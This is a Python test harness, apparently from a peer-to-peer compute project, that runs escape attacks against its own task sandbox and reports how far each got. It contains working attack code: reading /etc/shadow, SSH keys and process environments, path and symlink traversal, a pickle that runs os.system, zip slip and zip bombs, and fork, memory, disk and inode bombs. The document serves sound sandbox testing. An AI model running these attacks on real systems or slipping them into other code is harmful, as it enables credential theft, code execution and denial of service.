"""Attacks on the sandbox, and the peer that they are run against. Started by `test_escapes.py`, one process a wall.

    python escape_attempts.py SANDBOX FOLDER

It prepares things worth stealing in FOLDER, runs every attack as a task, looks at the damage from outside, and prints
both as JSON.
"""

import contextlib
import ctypes
import io
import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import psutil
import trio

from hivemind_p2p.tasks.library import bundle
from hivemind_p2p.tasks.library.function import NAME, pack
from hivemind_p2p.tasks.reading import decode
from hivemind_p2p.types import Needs, PeerId, Work
from hivemind_p2p.worker.executor import ChildExecutor

SECRET = "canary-31415926535"
MIB = 1 << 20


def attempt(function, *arguments):
    """What came of it: the value, or the error's number (or class) as text."""
    try:
        return function(*arguments)
    except OSError as error:
        return f"errno {error.errno}"
    except Exception as error:
        return type(error).__name__


# -- the attacks: each runs inside, and says how far it came -----------------------------------------------------------


def read_files(paths):
    def both(path):
        return os.listdir(path) if os.path.isdir(path) else Path(path).read_text(errors="replace")[:200]

    return {path: str(attempt(both, path))[:500] for path in paths}


def read_through_links(paths):
    found = {}
    for number, path in enumerate(paths):
        os.symlink(path, f"link{number}")
        found[path] = str(attempt(Path(f"link{number}").read_text))[:200]
        found[f"hard {path}"] = str(attempt(os.link, path, f"hard{number}"))
    found["dotdot"] = str(attempt(Path("../" * 20 + paths[0].lstrip("/")).read_text))
    found["root"] = str(attempt(Path(f"/proc/self/root{paths[0]}").read_text))
    found["cwd"] = str(attempt(Path(f"/proc/self/cwd/{'../' * 20}{paths[0].lstrip('/')}").read_text))
    return found


def read_environments():
    seen = [dict(os.environ)]
    for name in os.listdir("/proc") if isinstance(attempt(os.listdir, "/proc"), list) else range(1, 40_000):
        with contextlib.suppress(OSError):
            seen.append(Path(f"/proc/{name}/environ").read_text(errors="replace"))
    return str(seen)


def change_files(paths):
    def cut(path):
        os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))

    ways = {
        "write": lambda path: Path(path).write_text("owned"),
        "append": lambda path: open(path, "a").close(),
        "truncate": lambda path: os.truncate(path, 0),
        "cut": cut,
        "remove": os.unlink,
        "rename": lambda path: os.rename(path, path + ".moved"),
        "mode": lambda path: os.chmod(path, 0o777),
        "times": lambda path: os.utime(path, (0, 0)),
        "attribute": lambda path: os.setxattr(path, "user.owned", b"1"),
    }
    return {f"{way} {path}": str(attempt(do, path)) for path in paths for way, do in ways.items()}


def reach_network(port, unix_path, abstract):
    def tcp(address):
        with socket.create_connection(address, 2) as connection:
            connection.sendall(b"stolen")
            return "connected"

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"stolen", ("127.0.0.1", port))
            return "sent"

    def unix(name):
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(name)
            connection.sendall(b"stolen")
            return "connected"

    def listen():
        with socket.create_server(("0.0.0.0", 0)) as server:
            return f"listens at {server.getsockname()[1]}"

    return {
        "tcp": attempt(tcp, ("127.0.0.1", port)),
        "outside": attempt(tcp, ("192.0.2.1", 80)),
        "name": attempt(socket.getaddrinfo, "localhost", port),
        "udp": attempt(udp),
        "unix": attempt(unix, unix_path),
        "abstract": attempt(unix, "\0" + abstract),
        "listen": attempt(listen),
        "raw": str(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))),
        "packet": str(attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))),
        "netlink": str(attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))),
    }


def touch_processes(victim):
    libc = ctypes.CDLL(None, use_errno=True)

    def call(number, *arguments):
        result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(each) for each in arguments])
        if result < 0:
            raise OSError(ctypes.get_errno(), "refused")
        return f"made {result}"

    x86 = os.uname().machine == "x86_64"
    listed = attempt(os.listdir, "/proc")
    return {
        "listed": [name for name in listed if name.isdigit()] if isinstance(listed, list) else [],
        "command": str(attempt(Path(f"/proc/{victim}/cmdline").read_text)),
        "memory": str(attempt(lambda: open(f"/proc/{victim}/mem", "rb").close())),
        "signal": str(attempt(os.kill, victim, signal.SIGKILL)),
        "group": str(attempt(os.killpg, victim, signal.SIGKILL)),
        "look": str(attempt(os.kill, victim, 0)),
        "trace": attempt(call, 101 if x86 else 117, 16, victim, 0, 0),
        "limits": attempt(call, 302 if x86 else 261, victim, 7, 0, 0),
        "priority": str(attempt(os.setpriority, os.PRIO_PROCESS, victim, 19)),
        "descriptor": attempt(call, 434, victim, 0),
    }


def misuse_kernel():
    libc = ctypes.CDLL(None, use_errno=True)
    numbers = {
        "x86_64": {
            "unshare": 272,
            "bpf": 321,
            "perf": 298,
            "keyctl": 250,
            "uring": 425,
            "userfault": 323,
            "mount": 165,
        },
        "aarch64": {"unshare": 97, "bpf": 280, "perf": 241, "keyctl": 219, "uring": 425, "userfault": 282, "mount": 40},
    }[os.uname().machine]

    def call(number, *arguments):
        if libc.syscall(ctypes.c_long(number), *arguments) < 0:
            raise OSError(ctypes.get_errno(), "refused")
        return "made"

    arguments = {
        "unshare": (0x10000000,),
        "bpf": (0, ctypes.create_string_buffer(128), 128),
        "perf": (ctypes.create_string_buffer(128), 0, -1, -1, 0),
        "keyctl": (0, -3, 1),
        "uring": (8, ctypes.create_string_buffer(128)),
        "userfault": (1,),
        "mount": (b"none", b"/tmp", b"tmpfs", 0, 0),
    }
    found = {name: attempt(call, number, *arguments[name]) for name, number in numbers.items()}
    found["root"] = str(attempt(os.setuid, 0)) if os.getuid() else "is root"
    found["kmsg"] = str(attempt(lambda: open("/dev/kmsg").close()))
    found["sysctl"] = str(attempt(lambda: open("/proc/sys/kernel/hostname", "w").close()))
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines())
    found |= {"capabilities": status["CapEff"], "no new": status["NoNewPrivs"], "filter": status["Seccomp"]}
    return found


def descriptors():
    return {name: str(attempt(os.readlink, f"/proc/self/fd/{name}")) for name in os.listdir("/proc/self/fd")}


def fork_bomb():
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                time.sleep(1000)


def memory_bomb():
    held = []
    while True:
        held.append(bytearray(8 * MIB))


def memory_bomb_of_many():
    for _ in range(30):
        if os.fork() == 0:
            held = bytearray(40 * MIB)
            held[::4096] = b"x" * len(held[::4096])
            time.sleep(1000)
    time.sleep(1000)


def memory_bomb_that_is_shared():
    import mmap

    held = []
    while True:
        block = mmap.mmap(-1, 16 * MIB)
        block[::4096] = b"x" * len(block[::4096])
        held.append(block)


def disk_bomb():
    for number in range(10_000):
        with open(f"bomb{number}", "wb") as file:
            file.write(bytes(32 * MIB))
    return "wrote it all"


def inode_bomb():
    for number in range(2_000_000):
        open(f"bomb{number}", "w").close()
    return "made them all"


def stay_behind(mark):
    """Leaves the process group, the session and the parent, as a daemon does."""
    if os.fork() == 0:
        attempt(os.setsid)
        if os.fork() == 0:
            os.execv("/bin/sh", ["/bin/sh", "-c", f"sleep 1000; : {mark}"])
        os._exit(0)
    os.wait()
    return "left one"


def links_for_the_cleaner(folder):
    os.symlink(folder, "folder")
    os.makedirs("deep/er")
    os.symlink(folder, "deep/er/folder")
    return "linked"


def zipped(files, links=()):
    """A bundle with a main.py, and these files besides; some of them are links, which hold where they lead."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("main.py", "print('ran')")
        for name, data in files.items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = (0o120777 if name in links else 0o100644) << 16
            archive.writestr(entry, data, zipfile.ZIP_DEFLATED)
    return made.getvalue()


class Attack:
    """A pickle that runs a command where it is read, and a result that would do so at the caller's."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


# -- the peer ----------------------------------------------------------------------------------------------------------


class Watched:
    """What lies around a peer: secrets, services, a victim process; and what became of them."""

    def __init__(self, folder):
        self.folder = folder
        self.data = folder / "peer"
        self.home = folder / "home"
        for place in (self.data / "work", self.home / ".ssh"):
            place.mkdir(parents=True)
        self.files = [self.data / "identity.key", self.home / ".ssh" / "id_ed25519", self.home / "diary"]
        for file in self.files:
            file.write_text(SECRET)
        self.received = []
        self.victim = subprocess.Popen(["/bin/sleep", "1000"])
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.unix, self.abstract = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
        self.unix.bind(str(folder / "service"))
        self.name = f"hivemind-test-{os.getpid()}"
        self.abstract.bind("\0" + self.name)
        for server in (self.tcp, self.unix, self.abstract):
            if server is not self.tcp:
                server.listen()
            threading.Thread(target=self._accept, args=(server,), daemon=True).start()
        threading.Thread(target=lambda: self.received.append(self.udp.recv(10).decode()), daemon=True).start()

    def _accept(self, server):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                self.received.append(connection.recv(10).decode())

    def state(self):
        return {
            "files": {str(file): file.read_text() if file.exists() else "gone" for file in self.files},
            "modes": [file.stat().st_mode & 0o777 for file in self.files],
            "victim": self.victim.poll() is None,
            "priority": os.getpriority(os.PRIO_PROCESS, self.victim.pid),
            "received": self.received,
        }

    def close(self):
        self.victim.kill()
        self.victim.wait()


def left_behind(mark):
    """The processes with this mark that go on after their task was ended; some time to go is given."""
    for _ in range(50):
        found = [p.pid for p in psutil.process_iter(["cmdline"]) if mark in " ".join(p.info["cmdline"] or [])]
        found = [pid for pid in found if pid != os.getpid()]
        if not found:
            break
        time.sleep(0.1)
    return found


async def run(executor, payload, caller, *, memory="128MiB", seconds=20.0):
    needs = Needs(memory=memory, seconds=seconds)
    start = time.monotonic()
    kind = bundle.NAME if payload.startswith(b"PK") else NAME
    outcome = await executor.run(Work("t", PeerId(caller), kind, payload, needs))
    seconds = time.monotonic() - start
    if outcome.error_code:
        return {"error": outcome.error_code, "message": outcome.error_message, "seconds": seconds}
    return {"value": decode(outcome.payload), "peak": outcome.usage.peak_memory_bytes, "seconds": seconds}


def attacks(watched):
    files = [str(file) for file in watched.files]
    places = [*files, "/etc/passwd", "/etc/shadow", str(watched.home), str(watched.data), "/root", "/home", "/var/log"]
    stolen = str(watched.folder / "stolen")
    own = sys.executable
    return {
        "read_files": pack(read_files, (places,)),
        "read_through_links": pack(read_through_links, (files,)),
        "read_environments": pack(read_environments, ()),
        "change_files": pack(change_files, ([*files, own, os.__file__],)),
        "reach_network": pack(reach_network, (watched.port, str(watched.folder / "service"), watched.name)),
        "touch_processes": pack(touch_processes, (watched.victim.pid,)),
        "misuse_kernel": pack(misuse_kernel, ()),
        "descriptors": pack(descriptors, ()),
        "memory_bomb": pack(memory_bomb, ()),
        "memory_bomb_of_many": pack(memory_bomb_of_many, ()),
        "memory_bomb_that_is_shared": pack(memory_bomb_that_is_shared, ()),
        "disk_bomb": pack(disk_bomb, ()),
        "inode_bomb": pack(inode_bomb, ()),
        "stay_behind": pack(stay_behind, (watched.name,)),
        "links_for_the_cleaner": pack(links_for_the_cleaner, (str(watched.home),)),
        "pickle_in": pickle.dumps(Attack(stolen)),
        "pickle_out": pack(Attack, (stolen,)),
        "zip_bomb": zipped({"bomb": bytes(300 * MIB)}),
        "zip_bomb_that_lies": zipped({"bomb": bytes(30 * MIB)}).replace(
            (30 * MIB).to_bytes(4, "little"), (10).to_bytes(4, "little")
        ),
        "zip_slip": zipped({"../../../../../../../../../.." + stolen: b"slipped"}),
        "zip_link": zipped({"way": str(watched.folder).encode(), "way/stolen": b"slipped"}, links=("way",)),
        "fork_bomb": pack(fork_bomb, ()),
    }


async def main(sandbox, folder):
    watched = Watched(folder)
    found = {}
    try:
        before = {child.pid for child in psutil.Process().children(recursive=True)}
        async with ChildExecutor(watched.data / "work", slots=1, memory_bytes=1 << 30, sandbox=sandbox) as executor:
            found["walls"] = executor.sandbox
            for name, payload in attacks(watched).items():
                seconds = 4.0 if name in ("fork_bomb", "inode_bomb") else 20.0
                found[name] = await run(executor, payload, name, seconds=seconds)
            found["alive"] = await run(executor, pack(len, ("abc",)), "alice")
        found["left"] = left_behind(watched.name)
        found["children"] = len({child.pid for child in psutil.Process().children(recursive=True)} - before)
        found["work"] = [path.name for path in (watched.data / "work").iterdir()]
        found["stolen"] = (folder / "stolen").exists()
        found["state"] = watched.state()
        found["uid"] = os.getuid()
    finally:
        watched.close()
    print(json.dumps(found, default=str))


if __name__ == "__main__":
    trio.run(main, sys.argv[1], Path(sys.argv[2]))
